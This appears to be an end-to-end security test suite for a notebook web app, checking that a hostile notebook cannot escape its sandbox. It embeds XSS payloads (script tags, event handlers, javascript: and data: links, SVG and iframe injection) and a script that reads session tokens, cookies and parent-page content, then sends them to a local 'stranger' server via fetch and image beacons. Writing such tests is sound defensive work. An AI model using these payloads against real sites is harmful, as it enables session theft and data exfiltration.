/** A hostile notebook through the whole app: what it shows and runs gets nothing of the app, and takes it nowhere. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, onTestFinished } from 'vitest';
import type { Locator, Page } from 'playwright-core';
import { timePasses } from '#test/harness/until';
import { ADMIN, journey, screenshot, signIn, type BuiltServer } from '../harness';
import {
  anotherTab,
  createNotebook,
  editor,
  eventually,
  file,
  toast,
  runCell,
  start,
  stop,
  withPython,
} from './steps';

/** A stranger's server: what arrives there is what a hostile page got out. */
const stranger = async () => {
  const loot: string[] = [];
  const server = createServer((request, response) => {
    loot.push(decodeURIComponent(request.url ?? ''));
    response
      .setHeader('access-control-allow-origin', '*')
      .end('<!doctype html><title>Stranger</title>');
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  onTestFinished(
    () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  );
  return { loot, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
};

/** Attempts of every hostile script: to read the app, to send away the data it read, to speak as the editor, to take the window away. */
const attack = (name: string, thief: string) => `
  const tries = {
    'parent storage': () => parent.localStorage.getItem('persist:session'),
    'top storage': () => top.localStorage.length,
    'own storage': () => localStorage.getItem('persist:session') ?? Object.keys(localStorage).join(),
    'session storage': () => Object.keys(sessionStorage).join(),
    'parent page': () => parent.document.body.innerHTML.slice(0, 99),
    'top page': () => top.document.title,
    'cookie': () => document.cookie,
  };
  const got = {};
  for (const [what, look] of Object.entries(tries)) { try { const value = look(); if (value) got[what] = value; } catch {} }
  const words = '/${name}?' + encodeURIComponent(JSON.stringify(got));
  for (const target of [parent, top]) {
    target.postMessage({ type: 'link', location: location.href, href: 'javascript:top.stolen = 1' }, '*');
    target.postMessage({ type: 'navigate', location: location.href, url: '${thief}/moved' }, '*');
    target.postMessage({ action: { type: 'navigate', url: '${thief}/moved' } }, '*');
  }
  try { top.location = '${thief}/top-${name}'; } catch {}
  try { parent.location = '${thief}/parent-${name}'; } catch {}
  document.body?.append('It got ' + JSON.stringify(got) + ' by ${name}.');
  fetch('${thief}' + words).catch(() => {});
  new Image().src = '${thief}' + words;
`;

const displayed = (data: Record<string, string>) => ({
  output_type: 'display_data',
  data,
  metadata: {},
});
const html = (text: string) => displayed({ 'text/html': text });
const svg = (text: string) =>
  displayed({
    'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">${text}</svg>`,
  });

const hostileNotebook = (thief: string, app: string) => {
  const code = (id: string, outputs: unknown[], source = '1') => ({
    id,
    cell_type: 'code',
    source,
    metadata: {},
    outputs,
    execution_count: 1,
  });
  const markdown = (id: string, source: string) => ({
    id,
    cell_type: 'markdown',
    source,
    metadata: {},
  });
  const script = (name: string) => `<script>${attack(name, thief)}</script>`;
  return JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { title: script('metadata') },
    cells: [
      markdown(
        'links',
        [
          '[js](javascript:top.stolen=1)',
          '[data](data:text/html,<script>top.stolen=1</script>)',
          '[vb](vbscript:x)',
          '[file](file:///etc/passwd)',
          '[up](../../../../login)',
          `[app](${app}/home)`,
          `<a href="javascript:top.stolen=1" target="_top">raw</a>`,
          `<img src=x onerror="${'top.stolen=1'}">`,
          script('markdown'),
          `<iframe src="${app}/home"></iframe>`,
          `<form action="${thief}/form"><button id="markdown-form">go</button></form>`,
          '<base href="https://stranger.invalid/">',
          `<meta http-equiv="refresh" content="0;url=${thief}/refresh">`,
        ].join('\n\n'),
      ),
      code('scripted', [html(`<b>table</b>${script('html')}`)]),
      code('handlers', [
        html(
          `<img src=x onerror="${'top.stolen=1'}"><a href="javascript:top.stolen=1" id="html-link">x</a><details ontoggle="top.stolen=1" open></details>`,
        ),
      ]),
      code('svg', [
        svg(
          `<script>${attack('svg', thief)}</script><circle r="9" onload="top.stolen=1"/><a href="javascript:top.stolen=1"><circle cx="9" cy="9" r="9"/></a><foreignObject><iframe src="${app}/home"/></foreignObject>`,
        ),
      ]),
      code('iframe', [
        html(
          `<iframe srcdoc="${attack('srcdoc', thief).replaceAll('"', '&quot;')}"></iframe><iframe src="${app}/home"></iframe>${script('iframe')}`,
        ),
      ]),
      code('javascript', [
        displayed({ 'application/javascript': attack('javascript', thief), 'text/plain': 'js' }),
      ]),
      code(
        'live',
        [],
        `from IPython.display import HTML, display\ndisplay(HTML(${JSON.stringify(script('live'))}))`,
      ),
      code('plain', [
        {
          output_type: 'stream',
          name: 'stdout',
          text: `${script('stream')}\u001b]8;;javascript:top.stolen=1\u0007link\u001b]8;;\u0007`,
        },
      ]),
      code('error', [
        {
          output_type: 'error',
          ename: script('ename'),
          evalue: script('evalue'),
          traceback: [script('traceback')],
        },
      ]),
    ],
  });
};

/** Keys that the app itself writes meanwhile: the warnings it gave, and its list of watched jobs, which is empty. */
const OWN = ['persist:noticeHistory', 'persist:jobWatch'];
const storageOf = (page: Page) =>
  page.evaluate(
    (own) =>
      JSON.stringify(
        Object.entries(localStorage)
          .filter(([key]) => !own.includes(key))
          .sort(),
      ),
    OWN,
  );

/** Until every feature has joined the page and keeps its own: each that comes later would look like what an attack wrote. */
const wholePage = (page: Page) =>
  eventually(() =>
    page.evaluate(() => performance.getEntriesByName('features joined').length),
  ).toBe(1);

/** Gains of the attacks, as the stranger's server saw them: requests that carry data, or a page that was taken there. */
const taken = (loot: string[]) =>
  loot.filter((url) => !/^\/\w+\?\{\}$/.test(url) && url !== '/favicon.ico');

/** Scrolls a cell into sight, and waits until the page has drawn it: what is out of sight is not rendered. */
const show = async (cell: Locator) => {
  await cell.scrollIntoViewIfNeeded();
  await cell.evaluate(
    () =>
      new Promise((drawn) => {
        requestAnimationFrame(() => requestAnimationFrame(drawn));
      }),
  );
};

const expectUnharmed = async (page: Page, server: BuiltServer, storage: string) => {
  expect(new URL(page.url()).origin).toBe(server.origin);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  expect(await storageOf(page)).toBe(storage);
};

describe('a hostile notebook', () => {
  journey(
    'EDF-05 EDF-10 in the app: no script of it reads the token, the page or the cookies, and none takes the window away',
    withPython,
    async ({ page, server, expected }) => {
      expected.push(/./);
      const { loot, origin } = await stranger();
      await signIn(page, server);
      await createNotebook(page, file('hostile.ipynb', hostileNotebook(origin, server.origin)));
      await start(page);
      await eventually(() => editor(page).locator('.cell').count()).toBe(9);
      await wholePage(page);
      const storage = await storageOf(page);
      const cells = editor(page).locator('.cell');
      for (let nth = 0; nth < (await cells.count()); nth += 1) {
        await show(cells.nth(nth));
      }
      await runCell(page, 6);
      await cells.nth(6).scrollIntoViewIfNeeded();
      for (const nth of [1, 6]) {
        const shown = cells.nth(nth).locator('iframe').contentFrame().locator('body');
        await eventually(() => shown.innerText(), {
          message: 'it did run, and got nothing',
        }).toContain('It got {} by');
      }
      await timePasses(1_000, 'what its scripts try later comes to nothing either');
      await screenshot(page, 'hostile notebook');
      await expectUnharmed(page, server, storage);
      expect(taken(loot)).toEqual([]);
      await stop(page);
    },
  );

  journey(
    'EDF-08 EDF-09 EDF-10 its links: script and data links are refused with a warning, http opens outside without a way back',
    withPython,
    async ({ page, server, expected }) => {
      expected.push(/./);
      const { loot, origin } = await stranger();
      await signIn(page, server);
      await createNotebook(page, file('links.ipynb', hostileNotebook(origin, server.origin)));
      await start(page);
      await wholePage(page);
      const storage = await storageOf(page);
      const link = (name: string) =>
        editor(page).locator('.cell').nth(0).getByRole('link', { name, exact: true });
      await link('app').waitFor();
      for (const name of ['js', 'data', 'vb', 'file', 'up', 'raw']) {
        const shown = link(name);
        if ((await shown.count()) > 0) await shown.first().click();
      }
      await toast(page, 'Navigation').waitFor();
      const opened = page.context().waitForEvent('page');
      await link('app').click();
      expect(await (await opened).evaluate(() => window.opener as unknown)).toBeNull();
      await (await opened).close();
      await expectUnharmed(page, server, storage);
      await eventually(() => page.context().pages().length).toBe(1);
      expect(taken(loot)).toEqual([]);
      await stop(page);
    },
  );

  journey(
    "EDF-05 in a window of its own: the editor's origin holds nothing of the app",
    withPython,
    async ({ page, server, expected }) => {
      expected.push(/./);
      const { loot, origin } = await stranger();
      await signIn(page, server);
      await createNotebook(page, file('alone.ipynb', hostileNotebook(origin, server.origin)));
      await start(page);
      const outside =
        (await page.getByRole('link', { name: 'Open in new tab' }).getAttribute('href')) ?? '';
      const tab = await anotherTab(page, [/./]);
      await tab.goto(new URL(outside, server.origin).href);
      await tab.waitForURL(/\/nb\//);
      const alone = tab.url();
      expect(new URL(alone).origin).not.toBe(server.origin);
      await eventually(() => tab.locator('.cell').count()).toBe(9);
      for (const cell of await tab.locator('.cell').all()) await show(cell);
      await timePasses(1_000, 'what its scripts try later comes to nothing either');
      expect(tab.url()).toBe(alone);
      expect(
        await tab.evaluate(() => [
          document.cookie,
          'stolen' in window,
          localStorage.getItem('persist:session'),
        ]),
      ).toEqual(['', false, null]);
      expect(taken(loot)).toEqual([]);
      await tab.close();
      await stop(page);
    },
  );
});

journey(
  "EDF-05 code that runs in the notebook finds neither the server's settings nor a way into its API",
  withPython,
  async ({ page, server }) => {
    await signIn(page, server);
    const code = `import os, urllib.request, urllib.error
print([name for name, value in os.environ.items() if value == '${ADMIN.password}' or name in ('ATELIER_DATA', 'DATABASE_URL')])
try:
    urllib.request.urlopen(urllib.request.Request('${server.origin}/fsc/python/notebook/readall/', b'{"user_name":"admin"}', {'content-type': 'application/json'}))
    print('let in')
except urllib.error.HTTPError as error:
    print(error.code)`;
    await createNotebook(
      page,
      file(
        'environment.ipynb',
        JSON.stringify({
          nbformat: 4,
          nbformat_minor: 5,
          metadata: {},
          cells: [
            {
              id: 'a',
              cell_type: 'code',
              source: code,
              metadata: {},
              outputs: [],
              execution_count: null,
            },
          ],
        }),
      ),
    );
    await start(page);
    expect(await runCell(page, 0)).toBe('ok');
    await eventually(() => editor(page).locator('.outputs').first().innerText()).toMatch(
      /^\[\]\s401\s*$/,
    );
    await stop(page);
  },
);
